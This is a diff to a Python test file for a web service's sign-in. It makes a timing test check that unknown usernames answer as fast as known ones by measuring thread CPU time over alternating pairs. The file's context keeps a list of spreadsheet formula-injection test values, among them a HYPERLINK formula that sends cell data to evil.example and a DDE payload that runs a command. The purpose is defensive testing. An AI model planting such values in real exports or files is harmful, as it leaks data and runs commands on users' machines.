@@ -16,6 +16,8 @@ from openpyxl import load_workbook
 from server import accounts
 from tests.supervision.test_api import Client, a_working_morning, app, login  # noqa: F401 (fixture)
 
+#: known and unknown names tried in turn for the timing comparison
+PAIRS = 15
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)",
                  "＝1+1", "\t=1", "=cmd|' /C calc'!A0"]
 
@@ -110,14 +112,19 @@ def test_one_address_spraying_a_password_over_many_names_is_slowed(app) -> None:
 
 
 def test_an_unknown_name_answers_as_fast_as_a_known_one(app) -> None:  # noqa: F811
+    """What tells names apart is the work a sign-in does (one scrypt for a known name and for an
+    unknown one alike), so the work is what is measured: the CPU time of this thread, where the
+    test client runs the whole request. Wall time would add whatever else the machine is doing."""
     hall = app.hall
-    for i in range(7):
+    for i in range(PAIRS):
         accounts.add_user(hall.database, hall.service.hall_id, f"known{i}", "clerk", "password-1", "x", None)
     sign_in(app, "warm-up", "x", address="198.51.100.1")
     known, unknown = [], []
-    for i in range(7):   # alternating, so load on the machine falls on both alike
-        for names, times in ((f"known{i}", known), (f"nobody{i}", unknown)):
-            started = time.perf_counter()
+    for i in range(PAIRS):   # pairs, each from an address of its own, now one first, now the other
+        pair = [(f"known{i}", known), (f"nobody{i}", unknown)]
+        for names, times in pair if i % 2 else pair[::-1]:
+            started = time.thread_time()
             assert sign_in(app, names, "wrong-password", address=f"198.51.100.{10 + i}").status_code == 401
-            times.append(time.perf_counter() - started)
+            times.append(time.thread_time() - started)
     assert statistics.median(unknown) < statistics.median(known) * 1.5, (known, unknown)
+    assert statistics.median(known) < statistics.median(unknown) * 1.5, (known, unknown)
